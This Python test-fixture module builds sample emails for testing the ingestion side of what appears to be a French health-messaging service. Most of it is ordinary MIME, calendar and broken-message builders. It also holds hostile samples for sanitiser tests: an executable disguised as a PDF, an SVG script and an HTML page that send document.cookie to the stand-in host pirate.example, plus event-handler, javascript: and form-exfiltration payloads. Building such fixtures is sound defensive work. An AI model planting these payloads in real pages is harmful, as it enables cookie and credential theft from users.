"""Messages for the ingestion tests: well-formed MIME built with the email package, and hostile or broken ones."""

from datetime import UTC, datetime
from email import policy
from email.message import EmailMessage
from email.utils import format_datetime

from django.conf import settings

from tests.dossier.documents_samples import image_bytes, pdf_bytes

DOCTOR = "dr.martin@medecin.mssante.fr"
DOCTOR_NAME = "Dr Jeanne Martin"
OTHER_DOCTOR = "dr.benoit@chu-lyon.mssante.fr"

# A Windows program (the « MZ » header of a PE file and its DOS stub), given a PDF's name and type.
EXE_BYTES = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode.\r\n" * 4
)
SVG_BYTES = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://pirate.example/"+document.cookie)</script><rect width="10" height="10"/></svg>'
)
MALICIOUS_HTML = """<html><head><title>Titre caché</title><style>body{background:url(https://pirate.example/t.png)}</style>
</head><body onload="alert('body')">
<p style="color:red" onclick="alert('p')">Bonjour, <b>voici vos résultats</b>.</p>
<script>document.location='https://pirate.example/?c='+document.cookie</script>
<img src="https://pirate.example/pixel.gif" onerror="alert('img')" alt="pixel">
<a href="javascript:alert('lien')">Cliquez ici</a>
<a href="https://www.ameli.fr/">Site de l’Assurance Maladie</a>
<iframe src="https://pirate.example/"></iframe>
<form action="https://pirate.example/"><input name="mdp"></form>
</body></html>"""


def patient_address(citizen) -> str:
    return f"{citizen.ins}@{settings.MSS_PATIENT_DOMAIN}"


def ics_bytes(kind: str = "VEVENT", uid: str = "rdv-1@chu-lyon.mssante.fr") -> bytes:
    if kind == "VEVENT":
        component = [
            "BEGIN:VEVENT",
            f"UID:{uid}",
            "DTSTAMP:20260101T080000Z",
            "DTSTART:20300115T093000Z",
            "DTEND:20300115T100000Z",
            "SUMMARY:Consultation de cardiologie",
            "LOCATION:CHU de Lyon",
            "END:VEVENT",
        ]
    else:
        component = ["BEGIN:VTODO", f"UID:{uid}", "DTSTAMP:20260101T080000Z", "SUMMARY:Faire une prise de sang",
                     "END:VTODO"]  # fmt: skip
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Test//FR", *component, "END:VCALENDAR"]
    return ("\r\n".join(lines) + "\r\n").encode()


def mail(
    *,
    to: str | list[str],
    sender: str = DOCTOR,
    sender_name: str = DOCTOR_NAME,
    subject: str = "Compte rendu de consultation",
    text: str | None = "Bonjour,\n\nVoici le compte rendu de votre consultation.\n\nDr Jeanne Martin",
    html: str | None = None,
    attachments: list[tuple[str, str, bytes]] = (),
    message_id: str | None = "<cr-1@medecin.mssante.fr>",
    in_reply_to: str | None = None,
    references: str | None = None,
    cc: str | None = None,
    date: datetime | None = datetime(2026, 3, 2, 9, 30, tzinfo=UTC),
) -> bytes:
    """A message as a professional's mail server would send it (text, optional HTML alternative, attachments), with
    the CRLF line ends of SMTP."""
    message = EmailMessage()
    message["From"] = f'"{sender_name}" <{sender}>' if sender_name else sender
    message["To"] = to if isinstance(to, str) else ", ".join(to)
    if cc:
        message["Cc"] = cc
    message["Subject"] = subject
    if date is not None:
        message["Date"] = format_datetime(date)
    if message_id:
        message["Message-ID"] = message_id
    if in_reply_to:
        message["In-Reply-To"] = in_reply_to
    if references:
        message["References"] = references
    if text is not None:
        message.set_content(text)
        if html is not None:
            message.add_alternative(html, subtype="html")
    elif html is not None:
        message.set_content(html, subtype="html")
    for name, content_type, content in attachments:
        maintype, subtype = content_type.split("/")
        if maintype == "text":
            message.add_attachment(content.decode(), subtype=subtype, filename=name)
        else:
            message.add_attachment(content, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes(policy=policy.SMTP)


def broken_multipart(to: str) -> bytes:
    """A multipart message whose closing boundary is missing and whose PDF part has broken base64 padding: what a
    careless mail client produces. Its text must still be read."""
    return (
        f"From: {DOCTOR}\r\nTo: {to}\r\nSubject: Message mal construit\r\nMessage-ID: <casse-1@medecin.mssante.fr>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="FRONTIERE"\r\n\r\n'
        "--FRONTIERE\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "Bonjour, le texte reste lisible.\r\n"
        '--FRONTIERE\r\nContent-Type: application/pdf; name="cr.pdf"\r\nContent-Transfer-Encoding: base64\r\n'
        'Content-Disposition: attachment; filename="cr.pdf"\r\n\r\nJVBERi0xLjQKJ=\r\n'
    ).encode()


__all__ = ["image_bytes", "pdf_bytes"]
